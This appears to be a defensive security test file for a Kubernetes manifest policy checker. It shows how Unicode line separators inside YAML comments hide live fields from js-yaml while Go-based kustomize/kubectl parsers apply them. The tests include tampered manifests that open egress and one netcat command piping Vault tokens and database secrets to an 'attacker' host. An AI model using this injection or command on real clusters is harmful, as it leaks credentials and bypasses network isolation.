// attack9: check reads dist/k8s with js-yaml (YAML 1.2: only LF/CR break a line), but everything
// that applies those files reads them with libyaml-derived Go parsers (YAML 1.1 line breaks), which
// also break lines at U+2028 (LS), U+2029 (PS) and U+0085 (NEL): kustomize (kyaml / go-yaml v3) for
// the per-PR previews directory, kubectl (sigs.k8s.io/yaml / go-yaml v2) for the bootstrap applied by
// hand, Argo CD's repo server for the env files. So a comment `# x<LS>  egress:<LS>    - {}` is a
// comment to check and two more lines of content to the cluster. Verified with kubectl v1.32.4 /
// kustomize v5.5.0: `kubectl kustomize k8s/dev/previews/erp` and
// `kubectl annotate --local -f k8s/argocd/dev.k8s.yaml x=y -o yaml` both print `egress: [{}]` on
// default-deny; check passes with 0 errors. Any field can be added this way (no duplicate needed):
// egress-all on every preview namespace's default-deny, on tierkit-previews' (the Jobs holding the
// preview admin's credential and Vault token), a postStart command in the PreSync Job that runs as
// the preview admin's Vault identity, a toleration onto prod's node pool...
// The secure behaviour: a dist k8s file holding U+2028/U+2029/U+0085 (outside quoted scalars at
// least) is refused, as the `<<` merge key is.
import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { check, cleanDist, freshDir } from '../policies/helpers';
import { rehashManifest } from '../policies/rehash';

const LS = '\u2028';

function edited(label: string, rel: string, from: string, to: string): string {
  const dir = freshDir(label);
  cpSync(cleanDist(), dir, { recursive: true });
  const file = join(dir, rel);
  const text = readFileSync(file, 'utf8');
  expect(text.split(from).length).toBe(2);
  writeFileSync(file, text.replace(from, to));
  rehashManifest(dir);
  return dir;
}

const errorsOf = async (dir: string) => {
  try {
    return (await check(dir)).findings.filter((f) => f.severity === 'error' && !f.suppressed).map((f) => `${f.ruleId} ${f.message}`);
  } catch (error) {
    return [`refused: ${(error as Error).message}`]; // a dist check cannot read is refused: secure
  }
};

describe('attack9: content hidden behind a Unicode line break in a comment', () => {
  it('refuses a previews default-deny that kustomize reads with `egress: [{}]` (every preview namespace open to prod)', async () => {
    const dir = edited('attack9-ls-preview', 'k8s/dev/previews/erp/preview.k8s.yaml',
      '  name: default-deny\nspec:\n  podSelector: {}\n',
      `  name: default-deny\nspec:\n  # tierkit: default-deny${LS}  egress:${LS}    - {}\n  podSelector: {}\n`);
    expect(await errorsOf(dir)).not.toEqual([]);
  }, 120_000);

  it('refuses a PreSync Job whose Vault step kustomize reads with a postStart command (runs as the preview admin\'s identity)', async () => {
    const dir = edited('attack9-ls-job', 'k8s/dev/previews/erp/preview.k8s.yaml',
      '          name: write-vault-role\n',
      `          name: write-vault-role\n          # step${LS}          lifecycle:${LS}            postStart:${LS}            `
        + `  exec:${LS}                command: [sh, -c, 'cat /vault/secrets/token /vault/secrets/database | nc attacker 53']\n`);
    expect(await errorsOf(dir)).not.toEqual([]);
  }, 120_000);

  it('refuses tierkit-previews\' default-deny in the bootstrap that kubectl applies with `egress: [{}]`', async () => {
    const dir = edited('attack9-ls-bootstrap', 'k8s/argocd/dev.k8s.yaml',
      '  name: default-deny\n  namespace: tierkit-previews\nspec:\n  podSelector: {}\n',
      `  name: default-deny\n  namespace: tierkit-previews\nspec:\n  # tierkit: default-deny${LS}  egress:${LS}    - {}\n  podSelector: {}\n`);
    expect(await errorsOf(dir)).not.toEqual([]);
  }, 120_000);
});
